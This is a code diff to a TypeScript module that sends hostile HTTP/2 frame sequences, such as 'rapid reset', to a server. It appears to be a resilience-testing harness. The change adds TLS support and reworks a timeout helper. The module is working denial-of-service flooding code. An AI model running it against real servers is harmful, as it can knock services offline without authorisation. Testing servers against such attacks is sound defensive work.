@@ -1,6 +1,7 @@
 /** What somebody hostile writes on an HTTP/2 connection, frame by frame: the known ways to make a server work for nothing. */
 import { once } from "node:events";
 import { connect, type Socket } from "node:net";
+import { connect as connectTls } from "node:tls";
 
 export const ATTACKS = [
   "rapid reset",
@@ -67,10 +68,22 @@ const PIECES: Readonly<Record<Attack, readonly [before: Buffer | null, piece: (n
 const PREFACE = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(FRAME.settings, 0, 0)]);
 const PIECES_A_WRITE = 50;
 
-/** Writes so many pieces, as fast as they are taken and at most for `within`; true when the server closed the connection. */
-export async function attack(kind: Attack, address: string, pieces: number, within: number): Promise<boolean> {
+/**
+ * Writes so many pieces, as fast as they are taken and at most for `within`; true when the server closed the connection. `ca`: over
+ * TLS.
+ */
+export async function attack(
+  kind: Attack,
+  address: string,
+  pieces: number,
+  within: number,
+  ca?: string,
+): Promise<boolean> {
   const [host = "", port] = address.split(":");
-  const socket = connect(Number(port), host);
+  const socket =
+    ca === undefined
+      ? connect(Number(port), host)
+      : connectTls({ host, port: Number(port), ca, ALPNProtocols: ["h2"] });
   const until = performance.now() + within;
   socket.on("error", () => {});
   socket.resume(); // answers are of no interest, but their writer must not stall
@@ -86,6 +99,10 @@ export async function attack(kind: Attack, address: string, pieces: number, with
 }
 
 async function taken(socket: Socket, until: number): Promise<void> {
-  const signal = AbortSignal.timeout(Math.max(1, Math.ceil(until - performance.now())));
+  const over = new AbortController();
+  const timer = setTimeout(() => over.abort(), Math.max(1, Math.ceil(until - performance.now())));
+  const { signal } = over;
   await Promise.race([once(socket, "drain", { signal }), once(socket, "close", { signal })]).catch(() => {});
+  clearTimeout(timer);
+  over.abort(); // takes the listeners off that heard nothing
 }
